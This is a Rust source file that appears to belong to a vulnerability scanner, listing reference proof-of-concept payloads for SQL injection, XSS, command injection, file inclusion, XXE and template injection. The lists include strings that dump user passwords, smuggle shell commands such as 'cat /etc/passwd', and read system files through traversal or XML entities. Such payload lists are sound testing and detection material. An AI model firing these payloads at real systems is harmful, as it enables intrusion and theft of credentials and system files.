// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Proof-of-Concept Payloads
 * Reference payloads per vulnerability class for reproduction strings
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use crate::types::VulnClass;

pub static SQLI_PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "' OR '1'='1' --",
    "' UNION SELECT NULL--",
    "' UNION SELECT username,password FROM users--",
    "' AND (SELECT COUNT(*) FROM users) > 0 --",
    "' OR SLEEP(5) --",
];

pub static XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "\";alert('XSS');//",
];

pub static RCE_PAYLOADS: &[&str] = &[
    "; id",
    "| cat /etc/passwd",
    "&& whoami",
    "`uname -a`",
    "$(id)",
];

pub static LFI_PAYLOADS: &[&str] = &[
    "../../../etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "php://filter/read=convert.base64-encode/resource=index.php",
];

pub static XXE_PAYLOADS: &[&str] = &[
    "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
    "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"file:///etc/passwd\">%xxe;]>",
];

pub static SSTI_PAYLOADS: &[&str] = &[
    "{{7*7}}",
    "${7*7}",
    "{{config}}",
    "#{7*7}",
];

/// All reference payloads for a class. OTHER-class detections have no
/// injection payload; reproduction is a plain request.
pub fn payloads_for(class: VulnClass) -> &'static [&'static str] {
    match class {
        VulnClass::Sqli => SQLI_PAYLOADS,
        VulnClass::Xss => XSS_PAYLOADS,
        VulnClass::Rce => RCE_PAYLOADS,
        VulnClass::Lfi => LFI_PAYLOADS,
        VulnClass::Xxe => XXE_PAYLOADS,
        VulnClass::Ssti => SSTI_PAYLOADS,
        VulnClass::Other => &[],
    }
}

/// The canonical reproduction payload for a class.
pub fn poc_payload(class: VulnClass) -> Option<&'static str> {
    payloads_for(class).first().copied()
}
